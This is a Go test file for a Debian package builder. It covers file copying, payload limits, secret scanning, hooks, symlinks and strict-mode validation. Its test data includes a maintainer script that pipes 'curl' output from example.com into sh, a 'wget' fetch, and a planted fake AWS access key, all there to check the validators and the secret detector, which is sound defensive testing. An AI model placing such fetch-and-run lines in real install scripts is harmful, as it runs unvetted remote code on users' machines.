@@ -0,0 +1,643 @@
+package debian
+
+import (
+	"archive/tar"
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/go-i2p/go-pkginstall/pkg/ci"
+	"github.com/go-i2p/go-pkginstall/pkg/hooks"
+	"github.com/go-i2p/go-pkginstall/pkg/security"
+	"github.com/go-i2p/go-pkginstall/pkg/symlink"
+)
+
+func TestCopyFilesPipeline(t *testing.T) {
+	srcDir, err := ioutil.TempDir("", "builder-src-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(srcDir)
+
+	// Enough files to keep several workers busy. Installed-Size counts each
+	// file in whole KiB and each directory as 1 KiB: the root, opt, opt/usr,
+	// opt/usr/share, opt/usr/share/app and d0 to d3.
+	wantSize := 9
+	for i := 0; i < 40; i++ {
+		dir := filepath.Join(srcDir, "usr", "share", "app", fmt.Sprintf("d%d", i%4))
+		if err := os.MkdirAll(dir, 0755); err != nil {
+			t.Fatalf("Failed to create dir: %v", err)
+		}
+		content := strings.Repeat("x", 100*i)
+		wantSize += (len(content) + 1023) / 1024
+		if err := ioutil.WriteFile(filepath.Join(dir, fmt.Sprintf("f%d.txt", i)), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write file: %v", err)
+		}
+	}
+	if err := ioutil.WriteFile(filepath.Join(srcDir, "usr", "share", "app", "run.sh"), []byte("hello\n"), 0755); err != nil {
+		t.Fatalf("Failed to write file: %v", err)
+	}
+	wantSize++
+
+	for _, workers := range []int{1, 8} {
+		t.Run(fmt.Sprintf("%d workers", workers), func(t *testing.T) {
+			builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, srcDir)
+			if err != nil {
+				t.Fatalf("NewBuilder() error = %v", err)
+			}
+			defer builder.Clean()
+			builder.Workers = workers
+
+			if err := builder.createDebianDir(); err != nil {
+				t.Fatalf("createDebianDir() error = %v", err)
+			}
+			if err := builder.copyFiles(context.Background()); err != nil {
+				t.Fatalf("copyFiles() error = %v", err)
+			}
+			if len(builder.PackagedFiles) != 41 || len(builder.md5sums) != 41 {
+				t.Errorf("Expected 41 files, got %d packaged and %d checksums", len(builder.PackagedFiles), len(builder.md5sums))
+			}
+			if builder.calculateInstalledSize() != wantSize {
+				t.Errorf("calculateInstalledSize() = %d, want %d", builder.calculateInstalledSize(), wantSize)
+			}
+
+			// md5 of "hello\n"
+			if sum := builder.md5sums["/opt/usr/share/app/run.sh"]; sum != "b1946ac92492d2347c6235b4d2611184" {
+				t.Errorf("Unexpected checksum %q", sum)
+			}
+			info, err := os.Stat(filepath.Join(builder.BuildDir, "opt/usr/share/app/run.sh"))
+			if err != nil || info.Mode().Perm() != 0755 {
+				t.Errorf("Expected executable to keep 0755, got %v, %v", info, err)
+			}
+
+			if err := builder.writeDebianFiles(); err != nil {
+				t.Fatalf("writeDebianFiles() error = %v", err)
+			}
+			md5sums, err := ioutil.ReadFile(filepath.Join(builder.BuildDir, "DEBIAN", "md5sums"))
+			if err != nil {
+				t.Fatalf("Failed to read md5sums: %v", err)
+			}
+			lines := strings.Split(strings.TrimSpace(string(md5sums)), "\n")
+			if len(lines) != 41 || !strings.HasSuffix(lines[0], "  opt/usr/share/app/d0/f0.txt") {
+				t.Errorf("Unexpected md5sums content: %q", lines[0])
+			}
+		})
+	}
+}
+
+func TestCopyFilesReportsErrors(t *testing.T) {
+	srcDir, err := ioutil.TempDir("", "builder-src-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(srcDir)
+
+	if err := os.MkdirAll(filepath.Join(srcDir, "usr", "share"), 0755); err != nil {
+		t.Fatalf("Failed to create dir: %v", err)
+	}
+	if err := ioutil.WriteFile(filepath.Join(srcDir, "usr", "share", "secret.txt"), []byte("x"), 0644); err != nil {
+		t.Fatalf("Failed to write file: %v", err)
+	}
+
+	builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, srcDir)
+	if err != nil {
+		t.Fatalf("NewBuilder() error = %v", err)
+	}
+	defer builder.Clean()
+
+	// A directory in the way of the target file cannot be replaced
+	if err := os.MkdirAll(filepath.Join(builder.BuildDir, "opt", "usr", "share", "secret.txt"), 0755); err != nil {
+		t.Fatalf("Failed to create dir: %v", err)
+	}
+
+	if err := builder.copyFiles(context.Background()); err == nil || !strings.Contains(err.Error(), "secret.txt") {
+		t.Errorf("Expected copy error for secret.txt, got %v", err)
+	}
+}
+
+func TestCopyFilesPayloadLimit(t *testing.T) {
+	srcDir, err := ioutil.TempDir("", "builder-src-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(srcDir)
+
+	dir := filepath.Join(srcDir, "usr", "lib", "app", "node_modules")
+	if err := os.MkdirAll(dir, 0755); err != nil {
+		t.Fatalf("Failed to create dir: %v", err)
+	}
+	for i := 0; i < 6; i++ {
+		if err := ioutil.WriteFile(filepath.Join(dir, fmt.Sprintf("m%d.js", i)), []byte("x"), 0644); err != nil {
+			t.Fatalf("Failed to write file: %v", err)
+		}
+	}
+
+	builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, srcDir)
+	if err != nil {
+		t.Fatalf("NewBuilder() error = %v", err)
+	}
+	defer builder.Clean()
+
+	policy := security.DefaultSecurityPolicy()
+	policy.MaxFileCount = 5
+	builder.PathValidator = security.NewValidator(security.WithPolicy(policy), security.WithTransformedDir("/opt"))
+
+	err = builder.copyFiles(context.Background())
+	if !errors.Is(err, security.ErrPayloadLimit) || !strings.Contains(err.Error(), "node_modules") {
+		t.Errorf("copyFiles() error = %v, want payload limit naming node_modules", err)
+	}
+}
+
+func TestCopyFilesSecrets(t *testing.T) {
+	srcDir, err := ioutil.TempDir("", "builder-src-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(srcDir)
+
+	dir := filepath.Join(srcDir, "etc", "app")
+	if err := os.MkdirAll(dir, 0755); err != nil {
+		t.Fatalf("Failed to create dir: %v", err)
+	}
+	if err := ioutil.WriteFile(filepath.Join(dir, "env"), []byte("AWS_ACCESS_KEY_ID=AKIAZ7Q3XKD2PLM4R8TW\n"), 0644); err != nil {
+		t.Fatalf("Failed to write file: %v", err)
+	}
+
+	for _, strict := range []bool{false, true} {
+		builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, srcDir)
+		if err != nil {
+			t.Fatalf("NewBuilder() error = %v", err)
+		}
+		builder.StrictMode = strict
+
+		err = builder.copyFiles(context.Background())
+		if strict {
+			if err == nil || !strings.Contains(err.Error(), "aws-access-key") || strings.Contains(err.Error(), "Z7Q3") {
+				t.Errorf("copyFiles() error = %v, want a masked aws-access-key finding", err)
+			}
+		} else if err != nil || len(builder.SecretFindings) != 1 {
+			t.Errorf("copyFiles() = %v with findings %v, want one finding", err, builder.SecretFindings)
+		}
+		builder.Clean()
+	}
+}
+
+func TestSetMaintainerScriptValidationError(t *testing.T) {
+	builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), os.TempDir(), os.TempDir())
+	if err != nil {
+		t.Fatalf("NewBuilder() error = %v", err)
+	}
+	defer builder.Clean()
+	builder.StrictMode = true
+
+	err = builder.SetMaintainerScript("postinst", "#!/bin/sh\ncurl -s http://example.com/x.sh | sh\n")
+	var scriptErr *ScriptValidationError
+	if !errors.As(err, &scriptErr) || scriptErr.Script != "postinst" || len(scriptErr.Findings) == 0 {
+		t.Fatalf("SetMaintainerScript() error = %v, want a ScriptValidationError with findings", err)
+	}
+
+	if err := builder.SetMaintainerScript("postinst", "#!/bin/sh\nset -e\n"); err != nil {
+		t.Errorf("SetMaintainerScript() error = %v", err)
+	}
+	if err := builder.SetMaintainerScript("config", "#!/bin/sh\n"); err == nil || errors.As(err, &scriptErr) {
+		t.Errorf("SetMaintainerScript() of an unknown script error = %v, want a plain error", err)
+	}
+}
+
+func TestBuildCancelled(t *testing.T) {
+	srcDir, err := ioutil.TempDir("", "builder-src-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(srcDir)
+	outDir, err := ioutil.TempDir("", "builder-out-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(outDir)
+
+	if err := os.MkdirAll(filepath.Join(srcDir, "usr", "share", "app"), 0755); err != nil {
+		t.Fatalf("Failed to create dir: %v", err)
+	}
+	if err := ioutil.WriteFile(filepath.Join(srcDir, "usr", "share", "app", "data"), []byte("data"), 0644); err != nil {
+		t.Fatalf("Failed to write file: %v", err)
+	}
+
+	for _, streaming := range []bool{false, true} {
+		t.Run(fmt.Sprintf("streaming=%v", streaming), func(t *testing.T) {
+			builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, outDir)
+			if err != nil {
+				t.Fatalf("NewBuilder() error = %v", err)
+			}
+			builder.Streaming = streaming
+
+			ctx, cancel := context.WithCancel(context.Background())
+			cancel()
+			if _, _, err := builder.Build(ctx); !errors.Is(err, context.Canceled) {
+				t.Errorf("Expected context.Canceled, got %v", err)
+			}
+			if files, _ := ioutil.ReadDir(outDir); len(files) != 0 {
+				t.Errorf("Expected no output after cancellation, got %d files", len(files))
+			}
+			if _, err := os.Stat(builder.BuildDir); !os.IsNotExist(err) {
+				t.Errorf("Expected build directory to be removed")
+			}
+		})
+	}
+}
+
+func TestKeepBuildDir(t *testing.T) {
+	srcDir, err := ioutil.TempDir("", "builder-src-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(srcDir)
+	outDir, err := ioutil.TempDir("", "builder-out-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(outDir)
+	workDir, err := ioutil.TempDir("", "builder-work-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(workDir)
+
+	for _, keep := range []bool{false, true} {
+		t.Run(fmt.Sprintf("keep=%v", keep), func(t *testing.T) {
+			builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, outDir,
+				WithWorkDir(filepath.Join(workDir, "nested")), WithKeepBuildDir(keep))
+			if err != nil {
+				t.Fatalf("NewBuilder() error = %v", err)
+			}
+			defer builder.Clean()
+			if filepath.Dir(builder.BuildDir) != filepath.Join(workDir, "nested") || !strings.Contains(filepath.Base(builder.BuildDir), "app") {
+				t.Errorf("Build directory %s is not named after the package in the work directory", builder.BuildDir)
+			}
+
+			ctx, cancel := context.WithCancel(context.Background())
+			cancel()
+			_, report, err := builder.Build(ctx)
+			if err == nil {
+				t.Fatalf("Expected the cancelled build to fail")
+			}
+			_, statErr := os.Stat(builder.BuildDir)
+			if kept := statErr == nil; kept != keep {
+				t.Errorf("Build directory kept = %v, want %v", kept, keep)
+			}
+			if keep && report.BuildDir != builder.BuildDir {
+				t.Errorf("Report build directory = %q, want %q", report.BuildDir, builder.BuildDir)
+			}
+		})
+	}
+}
+
+func TestBuildHooks(t *testing.T) {
+	srcDir, err := ioutil.TempDir("", "builder-src-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(srcDir)
+	outDir, err := ioutil.TempDir("", "builder-out-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(outDir)
+
+	for name, content := range map[string]string{"app.js": "code", "app.js.map": "map"} {
+		if err := ioutil.WriteFile(filepath.Join(srcDir, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write file: %v", err)
+		}
+	}
+	marker := filepath.Join(outDir, "post-package")
+
+	builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, outDir,
+		WithHooks(&hooks.Hooks{
+			PostCopy:    []hooks.Hook{{Action: "remove", Args: []string{"*.map"}}},
+			PrePackage:  []hooks.Hook{{Action: "forbid", Args: []string{"*.map"}}},
+			PostPackage: []hooks.Hook{{Command: "sh", Args: []string{"-c", "echo \"$PKGINSTALL_OUTPUT\" > " + marker}}},
+		}))
+	if err != nil {
+		t.Fatalf("NewBuilder() error = %v", err)
+	}
+	builder.DpkgRoot = srcDir
+	outputPath, report, err := builder.Build(context.Background())
+	if err != nil {
+		t.Fatalf("Build() error = %v", err)
+	}
+	if report.Files != 1 {
+		t.Errorf("Report lists %d files, want the hook's removal to leave 1", report.Files)
+	}
+	if got, err := ioutil.ReadFile(marker); err != nil || strings.TrimSpace(string(got)) != outputPath {
+		t.Errorf("post_package hook saw output %q (%v), want %q", got, err, outputPath)
+	}
+
+	streaming, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, outDir,
+		WithStreaming(true), WithHooks(&hooks.Hooks{PostCopy: []hooks.Hook{{Command: "true"}}}))
+	if err != nil {
+		t.Fatalf("NewBuilder() error = %v", err)
+	}
+	if _, _, err := streaming.Build(context.Background()); err == nil || !strings.Contains(err.Error(), "cannot be used with streaming builds") {
+		t.Errorf("Build() error = %v, want streaming hooks to be rejected", err)
+	}
+}
+
+func TestPayloadLinks(t *testing.T) {
+	srcDir, err := ioutil.TempDir("", "builder-src-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(srcDir)
+
+	libDir := filepath.Join(srcDir, "usr", "lib")
+	binDir := filepath.Join(srcDir, "usr", "bin")
+	for _, dir := range []string{libDir, binDir} {
+		if err := os.MkdirAll(dir, 0755); err != nil {
+			t.Fatalf("Failed to create dir: %v", err)
+		}
+	}
+	if err := ioutil.WriteFile(filepath.Join(libDir, "libx.so.1"), []byte("lib"), 0644); err != nil {
+		t.Fatalf("Failed to write file: %v", err)
+	}
+	for link, target := range map[string]string{
+		filepath.Join(libDir, "libx.so"):  "libx.so.1",
+		filepath.Join(binDir, "abs-link"): "/usr/lib/libx.so.1",
+		filepath.Join(binDir, "rel-link"): "../lib/libx.so.1",
+	} {
+		if err := os.Symlink(target, link); err != nil {
+			t.Fatalf("Failed to create symlink: %v", err)
+		}
+	}
+	if err := os.Link(filepath.Join(libDir, "libx.so.1"), filepath.Join(binDir, "hard")); err != nil {
+		t.Fatalf("Failed to create hard link: %v", err)
+	}
+
+	// With a per-package directory /usr is folded into /opt/app
+	layout := &security.PathLayout{Package: "app", PerPackage: true}
+	wantLinks := map[string]string{
+		"/opt/app/lib/libx.so":  "libx.so.1",
+		"/opt/app/bin/abs-link": "/opt/app/lib/libx.so.1",
+		"/opt/app/bin/rel-link": "../lib/libx.so.1",
+	}
+
+	t.Run("copy", func(t *testing.T) {
+		builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, srcDir)
+		if err != nil {
+			t.Fatalf("NewBuilder() error = %v", err)
+		}
+		defer builder.Clean()
+		if err := builder.ApplyLayout(layout); err != nil {
+			t.Fatalf("ApplyLayout() error = %v", err)
+		}
+		if err := builder.copyFiles(context.Background()); err != nil {
+			t.Fatalf("copyFiles() error = %v", err)
+		}
+
+		for link, want := range wantLinks {
+			if got, err := os.Readlink(filepath.Join(builder.BuildDir, link)); err != nil || got != want {
+				t.Errorf("Readlink(%s) = %q, %v, want %q", link, got, err, want)
+			}
+		}
+		first, err := os.Stat(filepath.Join(builder.BuildDir, "opt/app/lib/libx.so.1"))
+		if err != nil {
+			t.Fatalf("Failed to stat library: %v", err)
+		}
+		second, err := os.Stat(filepath.Join(builder.BuildDir, "opt/app/bin/hard"))
+		if err != nil || !os.SameFile(first, second) {
+			t.Errorf("Expected hard link to be preserved")
+		}
+		// 5 directories, the library, 3 symlinks and nothing for the hard link
+		if builder.md5sums["/opt/app/bin/hard"] == "" || builder.installedSize != 9 {
+			t.Errorf("Expected checksum for the hard link and the content counted once, got size %d", builder.installedSize)
+		}
+		if _, ok := builder.md5sums["/opt/app/lib/libx.so"]; ok {
+			t.Errorf("Symlinks must not be listed in md5sums")
+		}
+	})
+
+	t.Run("stream", func(t *testing.T) {
+		builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, srcDir)
+		if err != nil {
+			t.Fatalf("NewBuilder() error = %v", err)
+		}
+		defer builder.Clean()
+		if err := builder.ApplyLayout(layout); err != nil {
+			t.Fatalf("ApplyLayout() error = %v", err)
+		}
+		var buf bytes.Buffer
+		if err := builder.streamData(context.Background(), &buf); err != nil {
+			t.Fatalf("streamData() error = %v", err)
+		}
+
+		entries := readTarGz(t, buf.Bytes())
+		for link, want := range wantLinks {
+			header := entries["."+link]
+			if header == nil || header.Typeflag != tar.TypeSymlink || header.Linkname != want {
+				t.Errorf("Expected symlink %s -> %s, got %+v", link, want, header)
+			}
+		}
+		// Walk order decides which path holds the content
+		header := entries["./opt/app/lib/libx.so.1"]
+		if header == nil || header.Typeflag != tar.TypeLink || header.Linkname != "./opt/app/bin/hard" {
+			t.Errorf("Expected hard link to ./opt/app/bin/hard, got %+v", header)
+		}
+		if builder.installedSize != 9 {
+			t.Errorf("Expected the same installed size as a copied build, got %d", builder.installedSize)
+		}
+	})
+}
+
+func TestFileMode(t *testing.T) {
+	policy := &security.PermissionsPolicy{
+		Directories: map[string]string{"/etc/app": "0640"},
+		AllowSetuid: []string{"/usr/bin/helper"},
+	}
+
+	tests := []struct {
+		name     string
+		path     string
+		mode     os.FileMode
+		preserve bool
+		want     os.FileMode
+	}{
+		{"Regular file", "/usr/share/app/data", 0600, false, 0644},
+		{"Executable", "/usr/bin/app", 0700, false, 0755},
+		{"Directory", "/usr/share/app", os.ModeDir | 0700, false, 0755},
+		{"Directory default", "/etc/app/app.conf", 0644, false, 0640},
+		{"Preserved", "/usr/share/app/data", 0600, true, 0600},
+		{"Setuid dropped", "/usr/bin/other", 0755 | os.ModeSetuid, true, 0755},
+		{"Setuid allowed", "/usr/bin/helper", 0755 | os.ModeSetuid, true, 0755 | os.ModeSetuid},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			builder := &Builder{SourceDir: "/src", PreservePerms: tt.preserve, Observer: &recordingObserver{}}
+			if err := builder.SetPermissions(policy); err != nil {
+				t.Fatalf("SetPermissions() error = %v", err)
+			}
+			info := fakeFileInfo{name: filepath.Base(tt.path), mode: tt.mode}
+			if got := builder.fileMode(filepath.Join("/src", tt.path), info); got != tt.want {
+				t.Errorf("fileMode() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSymlinkSnippet(t *testing.T) {
+	tests := []struct {
+		name     string
+		relative bool
+		want     string
+	}{
+		{"Absolute symlinks", false, "ln -sf '/opt/usr/local/bin/app' '/usr/local/bin/app'"},
+		{"Relative symlinks", true, "ln -sfr '/opt/usr/local/bin/app' '/usr/local/bin/app'"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), os.TempDir(), os.TempDir())
+			if err != nil {
+				t.Fatalf("NewBuilder() error = %v", err)
+			}
+			defer builder.Clean()
+			builder.RelativeSymlinks = tt.relative
+			if err := builder.SymlinkProcessor.QueueSymlink(symlink.SymlinkRequest{Source: "/opt/usr/local/bin/app", Target: "/usr/local/bin/app"}); err != nil {
+				t.Fatalf("QueueSymlink() error = %v", err)
+			}
+
+			if snippet := builder.symlinkSnippet(); !strings.Contains(snippet, tt.want) {
+				t.Errorf("Expected %q in postinst snippet:\n%s", tt.want, snippet)
+			}
+		})
+	}
+}
+
+func TestStrictMode(t *testing.T) {
+	newBuilder := func(t *testing.T) *Builder {
+		builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), os.TempDir(), os.TempDir())
+		if err != nil {
+			t.Fatalf("NewBuilder() error = %v", err)
+		}
+		return builder
+	}
+	script := "#!/bin/sh\nwget http://example.com/x\n"
+
+	// A script with only warnings is accepted without strict mode
+	builder := newBuilder(t)
+	defer builder.Clean()
+	if err := builder.SetMaintainerScript("postinst", script); err != nil {
+		t.Fatalf("SetMaintainerScript() error = %v", err)
+	}
+
+	builder = newBuilder(t)
+	defer builder.Clean()
+	builder.EnableStrictMode()
+	if !builder.StrictMode || !builder.FailOnConflicts {
+		t.Errorf("EnableStrictMode() left StrictMode=%v FailOnConflicts=%v", builder.StrictMode, builder.FailOnConflicts)
+	}
+	err := builder.SetMaintainerScript("postinst", script)
+	var scriptErr *ScriptValidationError
+	if !errors.As(err, &scriptErr) || !strings.Contains(err.Error(), "strict mode") {
+		t.Errorf("SetMaintainerScript() in strict mode error = %v, want the warnings to fail", err)
+	}
+	if _, ok := builder.Scripts["postinst"]; ok {
+		t.Errorf("Expected the rejected script not to be stored")
+	}
+
+	// The strict profile enables it too
+	profile, err := security.LookupProfile("strict")
+	if err != nil {
+		t.Fatalf("LookupProfile() error = %v", err)
+	}
+	builder = newBuilder(t)
+	defer builder.Clean()
+	builder.ApplyProfile(profile)
+	if !builder.StrictMode {
+		t.Errorf("Expected the strict profile to enable strict mode")
+	}
+}
+
+func TestStrictModeWarnings(t *testing.T) {
+	srcDir, err := ioutil.TempDir("", "builder-src-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(srcDir)
+	outDir, err := ioutil.TempDir("", "builder-out-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(outDir)
+	// A file in a home directory is skipped with a warning
+	for _, name := range []string{"opt/app/README", "home/user/.bashrc"} {
+		if err := os.MkdirAll(filepath.Join(srcDir, filepath.Dir(name)), 0755); err != nil {
+			t.Fatalf("Failed to create dir: %v", err)
+		}
+		if err := ioutil.WriteFile(filepath.Join(srcDir, name), []byte("x\n"), 0644); err != nil {
+			t.Fatalf("Failed to write file: %v", err)
+		}
+	}
+
+	for _, strict := range []bool{false, true} {
+		builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, outDir)
+		if err != nil {
+			t.Fatalf("NewBuilder() error = %v", err)
+		}
+		if strict {
+			builder.EnableStrictMode()
+		}
+		outputPath, _, err := builder.Build(context.Background())
+		if !strict {
+			if err != nil || len(builder.Warnings) == 0 {
+				t.Fatalf("Build() = %v, warnings %v; want a package with a warning", err, builder.Warnings)
+			}
+			os.Remove(outputPath)
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), "strict mode") || ci.ClassOf(err) != ci.ClassPolicy {
+			t.Errorf("Build() in strict mode error = %v, want the warning to fail the build", err)
+		}
+		if entries, _ := ioutil.ReadDir(outDir); len(entries) != 0 {
+			t.Errorf("Expected no package from a failed strict build, got %d files", len(entries))
+		}
+	}
+}
+
+func TestDisableSymlinks(t *testing.T) {
+	srcDir, err := ioutil.TempDir("", "builder-src-")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(srcDir)
+	if err := os.MkdirAll(filepath.Join(srcDir, "usr", "local", "bin"), 0755); err != nil {
+		t.Fatalf("Failed to create dir: %v", err)
+	}
+	if err := ioutil.WriteFile(filepath.Join(srcDir, "usr", "local", "bin", "app"), []byte("#!/bin/sh\n"), 0755); err != nil {
+		t.Fatalf("Failed to write file: %v", err)
+	}
+
+	for _, disabled := range []bool{false, true} {
+		builder, err := NewBuilder(NewPackage("app", "1.0", "all", "Test <test@example.com>", "d", "utils", "optional", nil), srcDir, srcDir)
+		if err != nil {
+			t.Fatalf("NewBuilder() error = %v", err)
+		}
+		builder.DisableSymlinks = disabled
+		if err := builder.copyFiles(context.Background()); err != nil {
+			t.Fatalf("copyFiles() error = %v", err)
+		}
+		if _, err := os.Stat(filepath.Join(builder.BuildDir, "opt", "usr", "local", "bin", "app")); err != nil {
+			t.Errorf("Expected the file to be packaged at its transformed path: %v", err)
+		}
+		queued := builder.SymlinkProcessor.GetQueuedSymlinkCount()
+		if disabled && queued != 0 || !disabled && queued == 0 {
+			t.Errorf("DisableSymlinks=%v queued %d symlinks", disabled, queued)
+		}
+		builder.Clean()
+	}
+}